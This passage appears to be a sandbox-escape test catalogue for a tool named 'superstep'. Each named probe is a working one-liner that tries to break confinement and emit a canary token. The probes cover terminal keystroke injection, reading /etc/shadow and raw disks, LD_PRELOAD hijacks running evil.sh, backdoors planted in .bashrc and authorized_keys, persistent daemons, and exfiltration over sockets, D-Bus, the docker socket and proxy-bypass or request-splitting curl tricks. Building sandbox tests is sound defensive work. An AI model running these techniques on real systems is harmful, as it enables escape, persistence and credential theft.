    try: f=os.open(n,os.O_RDWR|os.O_NOCTTY); [fcntl.ioctl(f,0x5412,bytes([c])) for c in b"x"]; print("TOKEN typed")
    except OSError: pass
X
=== dev-tty uncounted=there-is-no-terminal
echo x >/dev/tty; for t in /dev/pts/[0-9]*; do echo "$C" >"$t"; done
=== block-device uncounted=the-control-would-read-a-disk
for d in /dev/vda /dev/sda /dev/nvme0n1 /dev/mem /dev/kmsg; do head -c 1 $d && echo TOKEN read; done | grep -a "TOKEN read"
=== mknod-device needs=mknod,python3 uncounted=the-control-would-read-a-disk
python3 - <<'X'
import os,stat
d=os.stat(os.environ["R"]).st_dev
os.mknod("d",stat.S_IFBLK|0o600,d); open("d","rb").read(1); print("TOKEN read")
X
=== kernel-log needs=dmesg uncounted=not-a-canary
dmesg | head -1 | sed 's/^/TOKEN /'
=== sysctl needs=python3 uncounted=the-control-would-change-the-kernel
python3 - <<'X'
for n in ("kernel/core_pattern","kernel/modprobe","kernel/hostname","vm/drop_caches","kernel/sysrq"):
    try:
        open("/proc/sys/"+n,"r+").close(); print("TOKEN may change",n)
    except OSError: pass
X
=== sysrq needs=python3 uncounted=the-control-would-stop-the-machine
python3 -c 'import os; os.close(os.open("/proc/sysrq-trigger",os.O_WRONLY)); print("TOKEN may trigger")'
=== cgroup uncounted=the-control-would-change-the-machine
for f in /sys/fs/cgroup/cgroup.procs /sys/kernel/uevent_helper /sys/power/state; do [ -w $f ] && : 2>/dev/null >>$f && echo "TOKEN may change $f"; done
=== keyring needs=python3 uncounted=not-a-canary
python3 - <<'X'
import ctypes
l=ctypes.CDLL(None); k=l.syscall(248,b"user",b"superstep",b"x",1,-3)
if k>0: print("TOKEN key")
X
=== sysv-shared-memory needs=python3
python3 - <<'X'
import ctypes,os
l=ctypes.CDLL(None); l.shmat.restype=ctypes.c_void_p
i=l.shmget(int(os.environ["SHM"]),4096,0)
p=l.shmat(i,None,0) if i>=0 else None
if p and p!=2**64-1: print(ctypes.string_at(p,60).split(b"\0")[0].decode())
X
=== message-queue needs=python3
python3 - <<'X'
import ctypes,os
l=ctypes.CDLL(None); q=l.msgget(int(os.environ["MSG"]),0)
b=ctypes.create_string_buffer(128)
if q>=0 and l.msgrcv(q,b,100,0,0x4800)>0: print(b.raw[8:108].split(b"\0")[0].decode())
X
=== ld-preload needs=gcc
printf '#include <stdlib.h>\n__attribute__((constructor)) static void x(void){unsetenv("LD_PRELOAD");system("./evil.sh");}\n' >x.c; gcc -shared -fPIC -o x.so x.c; LD_PRELOAD=$PWD/x.so /bin/true
=== ld-so
for l in /lib64/ld-linux-x86-64.so.2 /lib/ld-linux-aarch64.so.1; do [ -e $l ] && $l /bin/cat "$O/secret"; done
=== ld-library-path needs=gcc
printf '#include <stdlib.h>\n__attribute__((constructor)) static void x(void){unsetenv("LD_LIBRARY_PATH");system("./evil.sh");}\n' >x.c; gcc -shared -fPIC -o libselinux.so.1 x.c; gcc -shared -fPIC -o libtinfo.so.6 x.c; LD_LIBRARY_PATH=$PWD bash -c : ; LD_LIBRARY_PATH=$PWD ls >/dev/null; ./evil.sh
=== bashrc
echo evil >>"$H/.bashrc"
=== profile-of-home
echo evil >>~/.profile
=== home-of-password-file uncounted=would-write-the-home-of-the-user
h=$(getent passwd "$(id -u)" | cut -d: -f6); for f in "$h/.bashrc" "$h/.profile" "$h/.ssh"; do [ -e "$f" ] && [ -w "$f" ] && ls -d "$f" && : >>"$f/x" && echo TOKEN; done; ls "$h/.ssh" "$h/.config/superstep" 2>/dev/null | sed 's/^/TOKEN /'
=== toolchain-of-home
echo x >>"$H/.cargo/env"; echo x >"$H/.local/bin/ls"; echo x >"$H/go/bin/go"
=== toolchain-of-home-replaced
mv "$H/.cargo" "$H/.c"; mkdir "$H/.cargo"; echo evil >"$H/.cargo/env"
=== authorized-keys
echo "ssh-ed25519 x" >>"$H/.ssh/authorized_keys"
=== crontab
mkdir -p "$O/cron"; echo '* * * * * evil' >"$O/cron/x"
=== etc uncounted=the-control-would-change-the-system
for f in /etc/passwd /etc/cron.d/superstep /etc/ld.so.preload /usr/local/bin/superstep-canary; do (: >>"$f") 2>/dev/null && echo "TOKEN may write $f"; done
=== system-secrets uncounted=the-control-would-print-secrets
cat /etc/shadow /etc/ssh/ssh_host_*_key /etc/sudoers 2>/dev/null | head -1 | sed 's/.*/TOKEN/'
=== autostart
mkdir -p "$H/.config/autostart" "$H/.config/systemd/user"; echo x >"$H/.config/systemd/user/x.service"
=== superstep-data
echo x >>"$H/.local/share/superstep/runs"
=== superstep-trust
echo x >>"$H/.config/superstep/trust.yaml"
=== superstep-permissions-read
cat "$H/.config/superstep/trust.yaml"
=== temporary-folder
echo x >"$O/../tmp-canary"; ls "$O/.."
=== temporary-files-of-others
cat "$TD"/*/secret "$TD"/*/*/secret
=== tcp
echo "$C" >"/dev/tcp/127.0.0.1/$T"
=== tcp-localhost
echo "$C" >"/dev/tcp/localhost/$T"
=== tcp-zero
echo "$C" >"/dev/tcp/0.0.0.0/$T"
=== tcp-other-loopback
echo "$C" >"/dev/tcp/127.1.2.3/$T"
=== tcp6
echo "$C" >"/dev/tcp/::1/$T6"
=== tcp-mapped
echo "$C" >"/dev/tcp/::ffff:127.0.0.1/$T"
=== tcp-own-address needs=own
echo "$C" >"/dev/tcp/$OWN/$T"
=== udp
echo "$C" >"/dev/udp/127.0.0.1/$U"
=== udp-own-address needs=own
echo "$C" >"/dev/udp/$OWN/$U"
=== udp6 needs=python3
python3 -c 'import os,socket; socket.socket(socket.AF_INET6,socket.SOCK_DGRAM).sendto(os.environ["C"].encode(),("::1",int(os.environ["U6"])))'
=== udp-broadcast needs=python3
python3 -c 'import os,socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.setsockopt(1,6,1); s.sendto(os.environ["C"].encode(),("127.255.255.255",int(os.environ["U"])))'
=== tcp-fast-open needs=python3
python3 -c 'import os,socket; s=socket.socket(); s.sendto((os.environ["C"]+"\n").encode(),0x20000000,("127.0.0.1",int(os.environ["T"])))'
=== tcp-fast-open-sendmsg network=localhost needs=python3
python3 -c 'import os,socket; s=socket.socket(); s.sendmsg([(os.environ["C"]+"\n").encode()],[],0x20000000,("127.0.0.1",int(os.environ["T"])))'
=== tcp-fast-open-with-hosts network=example.invalid needs=python3
python3 -c 'import os,socket; s=socket.socket(); s.sendto((os.environ["C"]+"\n").encode(),0x20000000,("127.0.0.1",int(os.environ["T"])))'
=== tcp-with-hosts network=example.invalid
echo "$C" >"/dev/tcp/127.0.0.1/$T"; echo "$C" >"/dev/tcp/::1/$T6"
=== mptcp network=example.invalid needs=python3
python3 -c 'import os,socket; s=socket.socket(2,1,262); s.connect(("127.0.0.1",int(os.environ["T"]))); s.sendall((os.environ["C"]+"\n").encode())'
=== unix-path needs=python3
python3 -c 'import os,socket; s=socket.socket(1); s.connect(os.environ["S"]); s.sendall(os.environ["C"].encode())'
=== unix-path-in-project needs=python3
python3 -c 'import os,socket; s=socket.socket(1); s.connect(os.environ["PS"]); s.sendall(os.environ["C"].encode())'
=== unix-path-in-project-through-link needs=python3
ln -s ../sub l; python3 -c 'import os,socket; s=socket.socket(1); s.connect("l/sock"); s.sendall(os.environ["C"].encode())'
=== unix-path-in-project-linked needs=python3
ln "$PS" l; mv "$PS" m; python3 -c '
import os,socket
for n in ("l","m"):
    try: s=socket.socket(1); s.connect(n); s.sendall(os.environ["C"].encode())
    except OSError: pass'
=== unix-path-through-proc needs=python3
python3 -c 'import os,socket; s=socket.socket(1); s.connect("/proc/self/root"+os.environ["S"]); s.sendall(os.environ["C"].encode())'
=== unix-datagram needs=python3
python3 -c 'import os,socket; s=socket.socket(1,2); s.sendto(os.environ["C"].encode(),os.environ["SD"])'
=== unix-abstract needs=python3
python3 -c 'import os,socket; s=socket.socket(1); s.connect("\0"+os.environ["A"]); s.sendall(os.environ["C"].encode())'
=== unix-abstract-with-hosts network=example.invalid needs=python3
python3 -c 'import os,socket; s=socket.socket(1); s.connect("\0"+os.environ["A"]); s.sendall(os.environ["C"].encode())'
=== unix-socketpair-reconnected needs=python3
python3 -c 'import os,socket; a,b=socket.socketpair(1,2); a.sendto(os.environ["C"].encode(),os.environ["SD"])'
=== unix-socketpair-abstract needs=python3
python3 -c 'import os,socket; a,b=socket.socketpair(1,2); a.sendto(os.environ["C"].encode(),"\0"+os.environ["AD"])'
=== raw-socket needs=python3 uncounted=icmp-is-not-heard
python3 -c 'import socket; s=socket.socket(2,3,1); s.sendto(b"\x08\0\xf7\xff\0\0\0\0",("127.0.0.1",0)); print("TOKEN raw")'
=== packet-socket needs=python3 uncounted=the-machine-may-have-traffic
python3 -c 'import socket; s=socket.socket(17,3,3); print("TOKEN packets")'
=== ping needs=ping uncounted=icmp-is-not-heard
ping -c1 -W1 "$OWN" && echo TOKEN
=== netlink needs=python3 uncounted=not-a-canary
python3 -c '
import socket,os
n=[x for _,x in socket.if_nameindex() if x!="lo"]
if n: print("TOKEN interfaces",n)'
=== vsock needs=python3 uncounted=nobody-listens
python3 -c 'import socket; s=socket.socket(40,1); s.settimeout(1); s.bind((0xffffffff,0xffffffff)); print("TOKEN vsock")'
=== dns
getent hosts canary.invalid; printf '%s' "$C" >"/dev/udp/127.0.0.1/$U"
=== ssh-agent needs=python3
SSH_AUTH_SOCK=$S python3 -c 'import os,socket; s=socket.socket(1); s.connect(os.environ["SSH_AUTH_SOCK"]); s.sendall(os.environ["C"].encode())'
=== session-bus needs=busctl
DBUS_SESSION_BUS_ADDRESS=unix:path=$S timeout 1 busctl --user list; DBUS_SESSION_BUS_ADDRESS=unix:abstract=$A timeout 1 busctl --user list; ./evil.sh
=== system-bus needs=busctl uncounted=needs-a-bus
timeout 2 busctl --system list && echo TOKEN
=== systemd-run needs=systemd-run uncounted=would-start-a-unit
timeout 2 systemd-run --user true && echo TOKEN
=== docker-socket needs=curl
curl -s --max-time 2 --unix-socket "$S" "http://x/$C"
=== curl needs=curl
curl -s --max-time 2 "http://127.0.0.1:$T/$C"
=== curl-noproxy network=example.invalid needs=curl
curl -s --max-time 2 --noproxy '*' "http://127.0.0.1:$T/$C"
=== proxy-disallowed-host network=example.invalid needs=curl
NO_PROXY= no_proxy= curl -s --max-time 2 "http://localhost:$T/$C"
=== proxy-address network=example.invalid needs=curl
NO_PROXY= no_proxy= curl -s --max-time 2 "http://127.0.0.1:$T/$C"
=== proxy-mapped-address network=example.invalid needs=curl
NO_PROXY= no_proxy= curl -s --max-time 2 "http://[::ffff:127.0.0.1]:$T/$C"
=== proxy-zero network=example.invalid needs=curl
NO_PROXY= no_proxy= curl -s --max-time 2 "http://0.0.0.0:$T/$C" ; NO_PROXY= no_proxy= curl -s --max-time 2 "http://0:$T/$C"
=== proxy-decimal-address network=example.invalid needs=curl
NO_PROXY= no_proxy= curl -s --max-time 2 -p "http://2130706433:$T/$C"; NO_PROXY= no_proxy= curl -s --max-time 2 "http://0x7f.1:$T/$C"
=== proxy-connect network=example.invalid needs=curl
NO_PROXY= no_proxy= curl -s --max-time 2 -p "http://127.0.0.1:$T/$C"
=== proxy-own-address network=example.invalid needs=curl,own
NO_PROXY= no_proxy= curl -s --max-time 2 "http://$OWN:$T/$C"
=== proxy-host-header network=example.invalid needs=curl
NO_PROXY= no_proxy= curl -s --max-time 2 -H 'Host: example.invalid' "http://127.0.0.1:$T/$C"
=== proxy-userinfo network=example.invalid needs=curl
NO_PROXY= no_proxy= curl -s --max-time 2 "http://example.invalid@127.0.0.1:$T/$C"; NO_PROXY= no_proxy= curl -s -p --max-time 2 "http://example.invalid:80@127.0.0.1:$T/$C"
=== proxy-request-split network=example.invalid needs=python3
python3 - <<'X'
import base64,os,socket
from urllib.parse import urlsplit
p=urlsplit(os.environ.get("HTTP_PROXY") or "http://a:b@127.0.0.1:"+os.environ["T"]); T=os.environ["T"]; C=os.environ["C"]
auth=base64.b64encode(f"{p.username}:{p.password}".encode()).decode()
for first in (f"GET http://example.invalid/{C} HTTP/1.1\r\nHost: 127.0.0.1:{T}\r\n", f"GET http://127.0.0.1:{T}/{C} HTTP/1.1\r\nHost: example.invalid\r\n", f"GET /{C} HTTP/1.1\r\nHost: 127.0.0.1:{T}\r\n",
    f"CONNECT example.invalid:80@127.0.0.1:{T} HTTP/1.1\r\nHost: example.invalid\r\n", f"CONNECT 127.0.0.1:{T} HTTP/1.1\r\nHost: example.invalid:80\r\n",
    f"POST http://example.invalid/ HTTP/1.1\r\nHost: example.invalid\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n", f"GET http://example.invalid/ HTTP/1.1\r\nHost: example.invalid\r\nX: a\r\n\r\nGET http://127.0.0.1:{T}/{C} HTTP/1.1\r\nHost: example.invalid\r\n"):
    s=socket.create_connection((p.hostname,p.port),3); s.settimeout(2)
    s.sendall((first+f"Proxy-Authorization: Basic {auth}\r\n\r\n").encode())
    try: s.recv(99); s.sendall(f"GET /{C} HTTP/1.0\r\n\r\n".encode()); s.recv(99)
    except OSError: pass
X
=== proxy-name-of-loopback network=localhost.localdomain,ip6-localhost needs=curl
for h in localhost.localdomain ip6-localhost localhost; do NO_PROXY= no_proxy= curl -s --max-time 2 "http://$h:$T/$C"; NO_PROXY= no_proxy= curl -s --max-time 2 "http://$h:$T6/$C"; done
=== proxy-unset network=example.invalid needs=curl
unset HTTP_PROXY http_proxy HTTPS_PROXY https_proxy; curl -s --max-time 2 "http://127.0.0.1:$T/$C"
=== daemon-after-the-end uncounted=its-group-ends-anyway
(setsid bash -c 'trap "" TERM HUP; sleep 0.3; ./evil.sh' >/dev/null 2>&1 &)
=== inherited-descriptor
cat <&"$FD"; cat "/proc/self/fd/$((FD-1))/secret"; ls -l /proc/self/fd >&2
=== reopened-output
echo x >>/proc/self/fd/1; for p in $PPID self; do ls -l /proc/$p/fd; done >/dev/null; cat "/proc/self/fd/1/../secret"; ./evil.sh
=== fanotify needs=python3 uncounted=not-a-canary
python3 - <<'X'
import ctypes,os
l=ctypes.CDLL(None); f=l.fanotify_init(0,0)
if f>=0 and l.fanotify_mark(f,0x11,ctypes.c_uint64(0x20),-100,os.environ["R"].encode())==0: print("TOKEN watches the mount")
X
=== bpf needs=python3 uncounted=not-a-canary
python3 -c 'import ctypes; b=ctypes.create_string_buffer(128); b[0]=b"\x02"; b[4]=b"\x04"; b[8]=b"\x04"; b[12]=b"\x01"; f=ctypes.CDLL(None).syscall(321,0,b,128); print("TOKEN bpf" if f>=0 else "")'
=== userfaultfd needs=python3 uncounted=not-a-canary
python3 -c 'import ctypes; print("TOKEN uffd" if ctypes.CDLL(None).syscall(323,0)>=0 else "")'
